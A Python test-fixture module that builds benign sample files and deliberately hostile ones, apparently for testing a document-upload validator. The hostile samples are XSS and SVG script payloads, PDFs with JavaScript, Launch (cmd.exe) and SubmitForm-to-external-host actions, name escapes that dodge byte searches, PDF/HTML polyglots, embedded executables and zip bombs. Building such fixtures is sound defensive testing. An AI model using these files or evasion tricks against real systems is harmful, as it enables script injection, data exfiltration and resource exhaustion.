"""Real, minimal files of every allowed format (and some hostile ones), built in memory."""
from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib

# A 1×1 grey baseline JPEG (made once with Pillow; decodes there).
JPEG = base64.b64decode(
    "/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDABALDA4MChAODQ4SERATGCgaGBYWGDEjJR0oOjM9PDkzODdASFxOQERXRTc4UG1RV19iZ2hnPk1xeXBk"
    "eFxlZ2P/wAALCAABAAEBAREA/8QAFAABAAAAAAAAAAAAAAAAAAAAAP/EABQQAQAAAAAAAAAAAAAAAAAAAAD/2gAIAQEAAD8AP//Z")
# A 1×1 transparent GIF89a.
GIF = (b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00"
       b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")
EXE = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48
       + b"This program cannot be run in DOS mode.")
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 44
HTML = b"<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>\n"
SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>\n'
TEXT = "Kính gửi: Ủy ban nhân dân tỉnh.\nVề việc kiểm tra công tác văn thư.\n".encode()
CSV = "số đến,ngày đến,trích yếu\n1,2026-11-23,Về việc kiểm tra\n".encode()
RTF = rb"{\rtf1\ansi\deff0 {\fonttbl {\f0 Times New Roman;}}\f0\fs24 C\u244?ng v\u259?n}"

_WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_SHEET_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
VBA_DEFAULT = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'


def pdf(version: str = "1.7", *, catalog: bytes = b"", page: bytes = b"", extra: tuple[bytes, ...] = ()) -> bytes:
    """A one-page blank PDF with a correct cross-reference table; ``catalog`` and ``page`` add
    entries to those dictionaries, ``extra`` adds objects numbered from 4."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R%s >>" % catalog, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]%s >>" % page, *extra]
    out = bytearray(f"%PDF-{version}\n%\xe2\xe3\xcf\xd3\n".encode("latin-1"))
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def _stream(body: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d%s >>\nstream\n%s\nendstream" % (len(body), entries, body)


# PDFs that act instead of only showing: what each holds, as the refusal names it.
JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"
ACTIVE_PDFS: dict[str, tuple[bytes, str]] = {
    "js-open-action": (pdf(catalog=b" /OpenAction 4 0 R", extra=(JS_ACTION,)), "mã JavaScript"),
    "js-name-tree": (pdf(catalog=b" /Names << /JavaScript << /Names [(a) 4 0 R] >> >>", extra=(JS_ACTION,)),
                     "mã JavaScript"),
    "js-page-aa": (pdf(page=b" /AA << /O 4 0 R >>", extra=(JS_ACTION,)), "mã JavaScript"),
    # "#xx" escapes in names: /S /JavaScript and /JS written so that a byte search misses them.
    "js-escaped": (pdf(catalog=b" /OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"), "mã JavaScript"),
    "js-next-chain": (pdf(catalog=b" /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>", extra=(JS_ACTION,)),
                      "mã JavaScript"),
    "launch-link": (pdf(page=b" /Annots [4 0 R]", extra=(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /Launch /F (cmd.exe) >> >>",)),
        "lệnh mở chương trình hoặc tệp khác (Launch)"),
    "submit-form": (pdf(catalog=b" /AcroForm << /Fields [4 0 R] >>", extra=(
        b"<< /FT /Btn /T (gui) /AA << /U << /S /SubmitForm /F (https://x.example/thu) >> >> >>",)),
        "lệnh gửi dữ liệu biểu mẫu ra ngoài (SubmitForm)"),
    "xfa": (pdf(catalog=b" /AcroForm << /Fields [] /XFA 4 0 R >>", extra=(_stream(b"<xdp:xdp/>"),)),
            "biểu mẫu XFA (có thể chứa mã)"),
}
EMBEDDED_FILE_PDF = pdf(catalog=b" /Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>", extra=(
    b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>", _stream(b"MZ", b" /Type /EmbeddedFile")))
LINK_PDF = pdf(page=b" /Annots [4 0 R]", extra=(
    b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://chinhphu.vn) >> >>",))
# A PDF that is also a web page: markup in the leading bytes, after the end, or before the header.
_SCRIPT = b"<html><body><script>alert(document.cookie)</script></body></html>\n"
POLYGLOTS: dict[str, bytes] = {
    "markup-in-header-comment": pdf().replace(b"%PDF-1.7\n", b"%PDF-1.7\n%" + _SCRIPT, 1),
    "markup-after-eof": pdf() + _SCRIPT,
    "markup-before-header": _SCRIPT + pdf(),
}


def png() -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)  # 1×1, 8-bit RGB
    pixels = zlib.compress(b"\x00\xcc\x00\x00")  # filter byte + one red pixel
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def _zip(entries: dict[str, bytes], stored_first: str | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        if stored_first:
            archive.writestr(zipfile.ZipInfo(stored_first), entries[stored_first], zipfile.ZIP_STORED)
        for name, body in entries.items():
            if name != stored_first:
                archive.writestr(name, body)
    return buffer.getvalue()


def _content_types(main_part: str, main_type: str, extra: str = "") -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Default Extension="xml" ContentType="application/xml"/>{extra}'
            f'<Override PartName="{main_part}" ContentType="{main_type}"/></Types>').encode()


def _rels(target: str) -> bytes:
    package, office = "http://schemas.openxmlformats.org/package/2006", "http://schemas.openxmlformats.org/officeDocument/2006"
    return (f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{package}/relationships">'
            f'<Relationship Id="rId1" Type="{office}/relationships/officeDocument" Target="{target}"/>'
            f'</Relationships>').encode()


def docx(main_type: str = _WORD_MAIN, extra_types: str = "") -> bytes:
    return _zip({
        "[Content_Types].xml": _content_types("/word/document.xml", main_type, extra_types),
        "_rels/.rels": _rels("word/document.xml"),
        "word/document.xml": b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                             b'<w:body><w:p><w:r><w:t>C\xc3\xb4ng v\xc4\x83n</w:t></w:r></w:p></w:body></w:document>',
    })


def xlsx() -> bytes:
    return _zip({
        "[Content_Types].xml": _content_types("/xl/workbook.xml", _SHEET_MAIN),
        "_rels/.rels": _rels("xl/workbook.xml"),
        "xl/workbook.xml": b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>',
    })


def odf(mimetype: str, extra: dict[str, bytes] | None = None) -> bytes:
    namespace = b"urn:oasis:names:tc:opendocument:xmlns"
    return _zip({"mimetype": mimetype.encode(),
                 "META-INF/manifest.xml": b'<manifest:manifest xmlns:manifest="%s:manifest:1.0"/>' % namespace,
                 "content.xml": b'<office:document-content xmlns:office="%s:office:1.0"/>' % namespace,
                 **(extra or {})}, stored_first="mimetype")


def odt() -> bytes:
    return odf("application/vnd.oasis.opendocument.text")


def ods() -> bytes:
    return odf("application/vnd.oasis.opendocument.spreadsheet")


def plain_zip(body: bytes = EXE) -> bytes:
    return _zip({"word/evil.exe": body})


def zip_with_huge_declared_sizes() -> bytes:
    """A DOCX whose central directory claims ~4 GiB per entry, as a zip bomb's would."""
    data = bytearray(docx())
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        struct.pack_into("<I", data, at + 24, 0xFFFFFFF0)  # uncompressed size
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def zip_bomb() -> bytes:
    """A DOCX-shaped archive with one entry of 80 MiB of zeros (about 80 KiB compressed)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _content_types("/word/document.xml", _WORD_MAIN))
        info = zipfile.ZipInfo("word/document.xml")
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=True) as entry:
            block = bytes(1 << 20)
            for _ in range(80):
                entry.write(block)
    return buffer.getvalue()


def ole(*root_entries: tuple[str, int]) -> bytes:
    """A version-3 compound file whose root holds the given (name, type) entries, type 2 a stream of
    4 KiB (so in regular sectors, no mini stream) and type 1 an empty storage."""
    sector, stream_sectors = 512, 8
    streams = [name for name, kind in root_entries if kind == 2]
    entries = len(root_entries) + 1
    dir_sectors = -(-entries * 128 // sector)
    first_stream = 1 + dir_sectors
    fat = [0xFFFFFFFD] + [i + 2 for i in range(dir_sectors - 1)] + [0xFFFFFFFE]
    for index in range(len(streams)):
        start = first_stream + index * stream_sectors
        fat += list(range(start + 1, start + stream_sectors)) + [0xFFFFFFFE]
    fat += [0xFFFFFFFF] * (sector // 4 - len(fat))
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
              + struct.pack("<HHHHH6sIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, bytes(6), 0, 1, 1, 0, 4096,
                            0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
              + struct.pack("<I", 0) + struct.pack("<I", 0xFFFFFFFF) * 108)

    def entry(name: str, kind: int, right: int, child: int, start: int, size: int) -> bytes:
        encoded = (name + "\0").encode("utf-16-le")
        return (encoded.ljust(64, b"\0") + struct.pack("<HBBIII", len(encoded), kind, 1, 0xFFFFFFFF, right, child)
                + bytes(16 + 4 + 16) + struct.pack("<IQ", start, size))

    directory = entry("Root Entry", 5, 0xFFFFFFFF, 1 if root_entries else 0xFFFFFFFF, 0xFFFFFFFE, 0)
    stream_index = 0
    for number, (name, kind) in enumerate(root_entries, start=1):
        right = number + 1 if number < len(root_entries) else 0xFFFFFFFF  # siblings as a chain
        if kind == 2:
            start, size = first_stream + stream_index * stream_sectors, sector * stream_sectors
            stream_index += 1
        else:
            start, size = 0xFFFFFFFE, 0
        directory += entry(name, kind, right, 0xFFFFFFFF, start, size)
    directory = directory.ljust(dir_sectors * sector, b"\0")
    body = b"".join(bytes([65 + i]) * sector * stream_sectors for i in range(len(streams)))
    return header + struct.pack(f"<{sector // 4}I", *fat) + directory + body


def doc() -> bytes:
    return ole(("WordDocument", 2), ("1Table", 2))


def xls() -> bytes:
    return ole(("Workbook", 2))


def docx_with(extra: dict[str, bytes], extra_types: str = "") -> bytes:
    """A DOCX that also holds ``extra`` entries (deflated, names kept as given)."""
    return _zip({"[Content_Types].xml": _content_types("/word/document.xml", _WORD_MAIN, extra_types),
                 "_rels/.rels": _rels("word/document.xml"),
                 "word/document.xml": b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/'
                                      b'main"><w:body/></w:document>',
                 **extra})


def declaring(archive: bytes, entry: str, declared: int) -> bytes:
    """``archive`` with both headers of ``entry`` (local and central) declaring ``declared`` bytes
    uncompressed: a header that lies about what the entry expands to."""
    data, name = bytearray(archive), entry.encode()
    for signature, size_at, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        at = data.find(signature)
        while at >= 0:
            if data[at + name_at:at + name_at + len(name)] == name:
                struct.pack_into("<I", data, at + size_at, declared)
            at = data.find(signature, at + 4)
    return bytes(data)


def lying_zip_bomb() -> bytes:
    """A DOCX whose document part expands to 80 MiB of zeros (about 80 KiB compressed) while both
    its headers declare 1 KiB: the declared sizes say nothing is wrong."""
    return declaring(docx_with({"word/media/pad.xml": bytes(80 << 20)}), "word/media/pad.xml", 1024)


def rels(*relations: tuple[str, str, str]) -> bytes:
    """A relationship part of (type suffix, target, target mode) triples."""
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    body = "".join(f'<Relationship Id="rId{n}" Type="{office}/{kind}" Target="{target}" TargetMode="{mode}"/>'
                   for n, (kind, target, mode) in enumerate(relations, start=1))
    return (f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            f'2006/relationships">{body}</Relationships>').encode()
